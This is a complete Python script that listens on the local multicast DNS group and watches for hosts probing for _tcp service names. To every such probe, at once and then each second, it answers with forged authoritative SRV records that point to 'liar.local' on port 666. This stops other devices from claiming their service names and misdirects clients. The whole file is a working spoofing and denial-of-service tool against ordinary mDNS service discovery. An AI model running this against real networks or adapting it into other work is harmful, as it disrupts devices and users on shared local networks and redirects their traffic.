"""Contests each name that a host of the network probes for, at once and each second: forge.py OWN_ADDRESS"""

import socket
import struct
import sys
import time

GROUP, PORT, ANY, SRV = "224.0.0.251", 5353, 255, 33


def name_at(packet, place):
    """The name at a place, in wire format, and the place behind it."""
    labels, end = b"", None
    while packet[place]:
        if packet[place] >= 0xC0:
            end = end or place + 2
            place = (packet[place] & 0x3F) << 8 | packet[place + 1]
        else:
            labels += packet[place : place + 1 + packet[place]]
            place += 1 + packet[place]
    return labels + b"\0", end or place + 1


def probed(packet):
    """The names of services that a packet probes for."""
    flags, count, authorities = struct.unpack_from("!2xHH2xH", packet)
    place = 12
    for _ in range(count if not flags & 0x8000 and authorities else 0):
        name, place = name_at(packet, place)
        if struct.unpack_from("!H", packet, place)[0] == ANY and b"_tcp" in name:
            yield name
        place += 4


own = sys.argv[1]
peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
peer.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
peer.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
peer.bind(("", PORT))
peer.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
peer.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + socket.inet_aton(own))
peer.settimeout(0.05)
print("ready", flush=True)
names, fresh, last = set(), set(), 0.0
while True:
    try:
        fresh = set(probed(peer.recv(9000))) - names
    except (TimeoutError, struct.error, IndexError):
        pass
    names |= fresh
    if names and time.monotonic() - last >= 1:
        last, fresh = time.monotonic(), set(names)
    for name in fresh:
        data = struct.pack("!HHH", 0, 0, 666) + b"\4liar\5local\0"
        record = name + struct.pack("!HHIH", SRV, 0x8001, 120, len(data)) + data
        peer.sendto(struct.pack("!HHHHHH", 0, 0x8400, 0, 1, 0, 0) + record, (GROUP, PORT))
    fresh = set()
